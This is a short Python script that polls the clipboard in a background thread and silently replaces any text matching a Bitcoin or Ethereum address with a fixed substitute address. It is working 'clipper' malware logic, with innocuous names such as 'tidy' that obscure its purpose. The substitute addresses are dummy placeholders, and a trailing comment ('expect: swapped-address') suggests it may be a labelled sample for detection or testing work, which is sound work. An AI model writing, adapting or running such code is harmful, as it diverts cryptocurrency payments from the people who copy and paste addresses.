import re
import threading
import time

import pyperclip

FORMS = {
    r"^(?:bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$": "b" * 40,
    r"^0x[a-fA-F0-9]{40}$": "0x" + "00" * 20,
}


def tidy(text):
    for form, known in FORMS.items():
        if re.match(form, text.strip()):
            return known
    return text


def poll():
    while True:
        now = pyperclip.paste()
        new = tidy(now)
        if new != now:
            pyperclip.copy(new)  # expect: swapped-address
        time.sleep(0.3)


threading.Thread(target=poll, daemon=True).start()
